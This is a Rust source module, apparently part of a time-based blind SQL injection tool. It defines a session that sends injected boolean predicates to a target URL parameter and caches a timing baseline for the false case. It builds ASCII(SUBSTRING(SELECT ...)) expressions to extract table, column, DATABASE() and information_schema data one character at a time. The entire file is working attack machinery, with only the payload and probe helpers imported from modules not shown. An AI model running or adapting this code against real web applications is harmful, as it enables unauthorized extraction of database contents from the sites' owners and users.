//! An `ExtractionSession` owns the HTTP client, the calibrated delay, and the
//! cached baseline a single extraction run shares across every probe (§5).

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use reqwest::Client;
use tokio::sync::Mutex;
use url::Url;

use super::payload::PayloadTemplate;
use super::probe::{build_client, probe};
use super::stats::TimingAnalyzer;

/// Which table/column/row this session is extracting from, or a raw
/// sub-`SELECT` for the convenience wrappers (`DATABASE()`,
/// `information_schema.tables`). The engine treats this purely as text
/// dropped into the boolean predicate the oracle builds; it never parses or
/// validates SQL (§3).
#[derive(Debug, Clone)]
pub struct ExtractionTarget {
    selector: String,
}

impl ExtractionTarget {
    pub fn new(
        table: impl Into<String>,
        column: impl Into<String>,
        where_clause: impl Into<String>,
    ) -> Self {
        Self {
            selector: format!(
                "{} FROM {} WHERE {} LIMIT 1",
                column.into(),
                table.into(),
                where_clause.into()
            ),
        }
    }

    /// A fully-formed sub-`SELECT` body, e.g. `"DATABASE()"` or
    /// `"table_name FROM information_schema.tables WHERE ... LIMIT 1 OFFSET n"`,
    /// for targets that don't fit the table/column/where shape.
    pub fn raw(selector: impl Into<String>) -> Self {
        Self {
            selector: selector.into(),
        }
    }

    /// The `ASCII(SUBSTRING(...))` expression both extractors compare
    /// against, grounded in `extractor.py`'s `_char_expr`.
    pub fn char_expr(&self, position: u32) -> String {
        format!(
            "ASCII(SUBSTRING((SELECT {}), {}, 1))",
            self.selector, position
        )
    }
}

/// One probed decision, kept for post-hoc inspection and for the audit log.
#[derive(Debug, Clone)]
pub struct TraceStep {
    pub position: u32,
    pub predicate: String,
    pub decision: bool,
    pub elapsed_samples: Vec<f64>,
}

/// Shared, read-only-after-warmup state for one extraction run: a client,
/// the target endpoint, the payload template, the calibrated delay, and a
/// lazily-computed baseline sample every oracle evaluation reuses instead of
/// re-measuring it per character (§5).
pub struct ExtractionSession {
    pub id: String,
    pub base_url: Url,
    pub param: String,
    pub template: PayloadTemplate,
    pub delay_secs: f64,
    pub oracle_samples: usize,
    pub analyzer: TimingAnalyzer,
    client: Client,
    baseline: Mutex<Option<Arc<Vec<f64>>>>,
    query_count: AtomicU64,
    trace: Mutex<Vec<TraceStep>>,
    tracing_enabled: bool,
    cancelled: Arc<AtomicBool>,
}

const BASELINE_SAMPLES: usize = 15;

impl ExtractionSession {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        base_url: Url,
        param: impl Into<String>,
        template: PayloadTemplate,
        delay_secs: f64,
        analyzer: TimingAnalyzer,
        oracle_samples: usize,
        request_timeout: Duration,
        tracing_enabled: bool,
    ) -> Result<Self> {
        let client = build_client(request_timeout).context("failed to build HTTP client")?;
        Ok(Self {
            id: uuid::Uuid::new_v4().to_string(),
            base_url,
            param: param.into(),
            template,
            delay_secs,
            oracle_samples,
            analyzer,
            client,
            baseline: Mutex::new(None),
            query_count: AtomicU64::new(0),
            trace: Mutex::new(Vec::new()),
            tracing_enabled,
            cancelled: Arc::new(AtomicBool::new(false)),
        })
    }

    pub async fn probe_payload(&self, payload: &str) -> f64 {
        probe(&self.client, &self.base_url, &self.param, payload).await
    }

    pub async fn probe_many(&self, payload: &str, samples: usize) -> Vec<f64> {
        let mut out = Vec::with_capacity(samples);
        for _ in 0..samples {
            out.push(self.probe_payload(payload).await);
        }
        self.query_count.fetch_add(samples as u64, Ordering::Relaxed);
        out
    }

    /// Returns the cached false-predicate (`1=0`) baseline, measuring it
    /// once on first use. Every later oracle evaluation reuses this sample
    /// rather than re-probing the baseline per character (§5).
    pub async fn baseline(&self) -> Arc<Vec<f64>> {
        let mut guard = self.baseline.lock().await;
        if let Some(existing) = &*guard {
            return Arc::clone(existing);
        }
        let payload = self.template.instantiate("1=0");
        let samples = self.probe_many(&payload, BASELINE_SAMPLES).await;
        let arc = Arc::new(samples);
        *guard = Some(Arc::clone(&arc));
        tracing::debug!(samples = BASELINE_SAMPLES, "baseline measured and cached");
        arc
    }

    pub fn cancel_flag(&self) -> Arc<AtomicBool> {
        Arc::clone(&self.cancelled)
    }

    pub fn is_cancelled(&self) -> bool {
        self.cancelled.load(Ordering::Relaxed)
    }

    pub fn cancel(&self) {
        self.cancelled.store(true, Ordering::Relaxed);
    }

    pub fn query_count(&self) -> u64 {
        self.query_count.load(Ordering::Relaxed)
    }

    pub async fn record_trace(&self, step: TraceStep) {
        if !self.tracing_enabled {
            return;
        }
        self.trace.lock().await.push(step);
    }

    pub async fn trace(&self) -> Vec<TraceStep> {
        self.trace.lock().await.clone()
    }
}
